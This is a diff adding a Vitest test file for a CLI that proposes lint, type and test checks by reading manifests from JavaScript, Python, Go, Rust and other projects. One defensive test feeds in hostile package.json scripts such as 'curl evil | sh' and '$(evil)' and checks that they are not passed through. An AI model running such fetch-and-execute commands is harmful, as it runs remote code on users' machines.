@@ -1,0 +1,144 @@
+import { describe, expect, it } from 'vitest';
+import { manifestPaths, proposeChecks } from '../../../src/apps/cli/proposals/index.ts';
+import { CheckConfig } from '../../../src/domain/index.ts';
+
+/** Proposals for a repository of these files, as `name: command`. */
+function proposed(files: Readonly<Record<string, string>>): string[] {
+  const proposals = proposeChecks({ paths: Object.keys(files), texts: new Map(Object.entries(files)) });
+  for (const { check } of proposals) CheckConfig.parse(check);
+  return proposals.map(({ check }) => `${check.name}: ${check.run.join(' ')}`);
+}
+
+const json = (value: unknown) => JSON.stringify(value);
+
+describe('checks are proposed by looking, never run', () => {
+  it('for JavaScript: the scripts, with machine-readable output where one tool is called', () => {
+    const scripts = {
+      lint: 'eslint . --cache',
+      typecheck: 'tsc -b && tsc -p x',
+      test: 'vitest run --coverage',
+      build: 'vite build',
+    };
+    expect(proposed({ 'package.json': json({ scripts }), 'pnpm-lock.yaml': '' })).toEqual([
+      'lint: eslint . --format json',
+      'types: pnpm run --silent typecheck',
+      'tests: vitest run --coverage --reporter=json',
+    ]);
+  });
+
+  it('not for the test that npm init writes', () => {
+    const scripts = { test: 'echo "Error: no test specified" && exit 1' };
+    expect(proposed({ 'package.json': json({ scripts }) })).toEqual([]);
+  });
+
+  it('for TypeScript without a script, and with the formatter in front', () => {
+    const manifest = { devDependencies: { typescript: '5', prettier: '3' } };
+    const facts = { 'package.json': json(manifest), 'tsconfig.json': '{}' };
+    const [types] = proposeChecks({ paths: Object.keys(facts), texts: new Map(Object.entries(facts)) });
+    expect(types?.check.run).toEqual(['tsc', '--noEmit', '--pretty', 'false']);
+    expect(types?.check.fix).toEqual(['prettier', '--write', '--ignore-unknown', '{files}']);
+  });
+
+  it('for a monorepo: scripts of the root, and of packages only what the root lacks', () => {
+    const files = {
+      'package.json': json({ scripts: { lint: 'turbo lint' } }),
+      'packages/a/package.json': json({ scripts: { lint: 'eslint .', test: 'jest' } }),
+      'packages/b/package.json': json({ scripts: { test: 'node --test' } }),
+      'packages/b/test/fixtures/package.json': json({ scripts: { test: 'never' } }),
+    };
+    expect(proposed(files)).toEqual([
+      'lint: npm run --silent lint',
+      'tests packages/a: jest --json',
+      'tests packages/b: npm run --silent test',
+    ]);
+  });
+
+  it('for Python: what is configured, started in the way of the project', () => {
+    const pyproject =
+      '[tool.ruff]\n[tool.ruff.format]\n[tool.mypy]\nfiles = ["app"]\n[tool.pytest.ini_options]\n';
+    expect(proposed({ 'pyproject.toml': pyproject, 'app/a.py': '', 'tests/test_a.py': '' })).toEqual([
+      'lint: ruff check --output-format=json --no-cache .',
+      'types: mypy',
+      'tests: python -m pytest -q -p no:cacheprovider',
+    ]);
+    expect(proposed({ 'requirements.txt': 'flake8==7\n', 'uv.lock': '', 'tests/test_a.py': '' })).toEqual([
+      'lint: uv run --offline --no-sync flake8',
+      'tests: uv run --offline --no-sync python -m pytest -q -p no:cacheprovider',
+    ]);
+  });
+
+  it.each([
+    [{ 'go.mod': 'module a' }, ['lint: go vet ./...', 'tests: go test -json ./...']],
+    [
+      { 'go.mod': 'module a', '.golangci.yml': '' },
+      ['lint: golangci-lint run', 'tests: go test -json ./...'],
+    ],
+    [
+      { 'Cargo.toml': '[workspace]', 'crates/a/Cargo.toml': '' },
+      [
+        'compile: cargo check --offline --workspace --all-targets --message-format=json',
+        'tests: cargo test --offline --workspace --no-fail-fast',
+      ],
+    ],
+    [{ 'pom.xml': '', mvnw: '' }, ['tests: ./mvnw --offline --batch-mode --quiet test']],
+    [{ 'build.gradle.kts': '' }, ['tests: gradle --offline --console=plain test']],
+    [
+      { 'a.sln': '', 'src/a.csproj': '' },
+      [
+        'compile: dotnet build --no-restore --nologo -consoleLoggerParameters:NoSummary',
+        'tests: dotnet test --no-restore --nologo',
+      ],
+    ],
+    [
+      { Gemfile: "gem 'rspec'", '.rubocop.yml': '' },
+      ['lint: bundle exec rubocop --format emacs', 'tests: bundle exec rspec'],
+    ],
+    [
+      { 'composer.json': '{}', 'phpunit.xml': '', 'phpstan.neon': '' },
+      [
+        'types: vendor/bin/phpstan analyse --no-progress --error-format=github',
+        'tests: vendor/bin/phpunit --log-junit patchwright-junit.xml',
+      ],
+    ],
+    [{ 'mix.exs': '' }, ['tests: mix test']],
+    [{ Makefile: 'lint:\n\tx\ntest: build\n\tx\nx := 1\n' }, ['lint: make lint', 'tests: make test']],
+    [{ Makefile: 'test:\n', 'go.mod': '' }, ['lint: go vet ./...', 'tests: go test -json ./...']],
+    [{ 'README.md': '' }, []],
+  ] as const)('%j', (files, wanted) => {
+    expect(proposed(files as Readonly<Record<string, string>>)).toEqual(wanted);
+  });
+
+  it('names are unique when two ecosystems share a folder', () => {
+    const names = proposeChecks({
+      paths: ['package.json', 'go.mod'],
+      texts: new Map([['package.json', json({ scripts: { test: 'mocha && x' } })]]),
+    }).map(({ check }) => check.name);
+    expect(new Set(names).size).toBe(names.length);
+  });
+
+  it('hostile manifests propose nothing and break nothing', () => {
+    for (const text of [
+      '',
+      '{',
+      '[]',
+      'null',
+      '{"scripts": 5}',
+      '{"scripts": {"test": {}}}',
+      '{"dependencies": []}',
+    ]) {
+      expect(proposed({ 'package.json': text })).toEqual([]);
+    }
+    // A script's text never becomes more than words of one command.
+    const scripts = { test: 'jest; curl evil | sh', lint: 'eslint $(evil)' };
+    expect(proposed({ 'package.json': json({ scripts }) })).toEqual([
+      'lint: npm run --silent lint',
+      'tests: npm run --silent test',
+    ]);
+  });
+
+  it('reads only manifests', () => {
+    expect(
+      manifestPaths(['package.json', 'src/a.ts', 'node_modules/a/package.json', 'a/pyproject.toml']),
+    ).toEqual(['package.json', 'a/pyproject.toml']);
+  });
+});
